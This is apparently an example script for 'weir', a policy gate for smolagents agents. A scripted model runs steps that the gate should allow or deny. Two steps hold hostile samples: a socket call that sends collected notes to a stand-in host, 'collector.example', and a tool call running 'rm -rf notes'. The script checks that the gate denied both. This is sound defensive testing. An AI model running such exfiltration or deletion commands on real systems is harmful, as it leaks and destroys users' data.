"""A smolagents agent behind the gate, from the first call to the score. No network, no key.

    cargo build --release
    pip install './adapters/python[smolagents]'
    python examples/smolagents/quickstart.py

The model is a script, so that every run is the same; the agent, its tools, the sandbox and the gate
are real. Exit status 0 means that everything went as the comments say.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

from smolagents import ChatMessage, CodeAgent, Model, tool
from smolagents.models import MessageRole, TokenUsage

import weir

PROFILE = Path(__file__).resolve().parents[2] / "policies" / "profiles" / "smolagents.toml"

NOTES = {"tides": "high at 6:10 and 18:32", "gate": "inspect the weir before high tide", "boat": "paint is drying"}

STEPS = [
    # Allowed calls of two tools; the program's variables stay for the next step.
    """
names = find_notes("tide")
texts = {name: read_note(name) for name in names}
print(len(texts), "notes:", ", ".join(sorted(texts)))
""",
    # State across steps, and modules that the policy grants.
    """
import json, statistics
lengths = [len(text) for text in texts.values()]
print(json.dumps({"notes": sorted(texts), "mean length": statistics.mean(lengths)}))
""",
    # A module that the policy does not grant.
    """
import socket
socket.create_connection(("collector.example", 443)).send(str(texts).encode())
""",
    # A denied tool call, nested in generated code. The program can catch it; the tool never runs.
    """
try:
    run_command("rm -rf notes")
except PermissionDenied as denial:
    print("refused:", str(denial).splitlines()[0])
""",
    """
final_answer(texts["gate"])
""",
]


class Script(Model):
    """Says the steps one after another."""

    def __init__(self) -> None:
        super().__init__(model_id="scripted-model")
        self.steps = iter(STEPS)

    def generate(self, messages: Any, **_: Any) -> ChatMessage:
        text = f"Thought: next step.\n<code>{next(self.steps)}</code>"
        return ChatMessage(role=MessageRole.ASSISTANT, content=text, token_usage=TokenUsage(1200, 60))


@tool
def find_notes(word: str) -> list:
    """Finds notes whose name or text has a word.

    Args:
        word: the word.
    """
    return [name for name, text in NOTES.items() if word in name or word in text]


@tool
def read_note(name: str) -> str:
    """Reads a note.

    Args:
        name: its name.
    """
    return NOTES[name]


COMMANDS: list[str] = []


@tool
def run_command(command: str) -> str:
    """Runs a command on this machine.

    Args:
        command: the command.
    """
    COMMANDS.append(command)
    return "done"


def main() -> int:
    agent = CodeAgent(tools=[find_notes, read_note, run_command], model=Script(), verbosity_level=0)
    effects = {"find_notes": "read", "read_note": "read", "run_command": "exec"}
    weir.wrap(agent, profile=PROFILE, tools=effects)  # The one line.
    try:
        answer = agent.run("What has to be done before high tide?")
        for number, step in enumerate(agent.memory.steps[1:], 1):
            show(f"step {number}", step.observations, str(step.error.message) if step.error else "")
        print(f"\nanswer    {answer}\n")
        print(weir.report(agent), "\n")
        gate = weir.report(agent).gate
        print(receipts(gate.receipts()))
        print(scores(gate.scores()))
        return check(agent, answer)
    finally:
        weir.close(agent)


def show(title: str, *texts: str | None) -> None:
    lines = [
        line for text in texts for line in (text or "").splitlines() if line and not line.startswith("Execution logs")
    ]
    for index, line in enumerate(lines):
        print(f"{title if index == 0 else '':<9} {line[:140]}")


def receipts(reply: dict[str, Any]) -> str:
    """The signed receipts, oldest first."""
    rows = [f"{'decision':<9} {'action':<15} {'resource':<16} receipt"]
    for receipt in reversed(reply["receipts"]):
        action, result = receipt["action"], receipt["decision"]["result"]
        rows.append(f"{result.lower():<9} {action['operation']:<15} {action['tool']:<16} {receipt['receipt_id']}")
    return "\n".join(rows) + "\n"


def scores(reply: dict[str, Any]) -> str:
    """The ten factors: what the profile declares, what the policy permits, what was observed."""

    def number(value: float | None) -> str:
        return f"{value:9.2f}" if isinstance(value, (int, float)) else f"{'-':>9}"

    rows = [f"{'factor':<20} {'declared':>9} {'permitted':>9} {'observed':>9}  status"]
    for factor in reply["factors"]:
        numbers = " ".join(number(factor.get(name)) for name in ("declared", "permitted", "observed"))
        rows.append(f"{str(factor['factor']):<20} {numbers}  {factor['status']}")
    return "\n".join(rows)


def check(agent: CodeAgent, answer: Any) -> int:
    """Whether the run went as described above."""
    steps = agent.memory.steps[1:]
    wanted = {
        "the answer came from a note": answer == NOTES["gate"],
        "variables survived between steps": "mean length" in (steps[1].observations or ""),
        "the import was denied": "[weir] denied import socket" in str(steps[2].error and steps[2].error.message),
        "the command was denied": "[weir] denied tool run_command" in (steps[3].observations or ""),
        "the command never ran": not COMMANDS,
    }
    failed = [text for text, held in wanted.items() if not held]
    for text in failed:
        print(f"not as expected: {text}", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
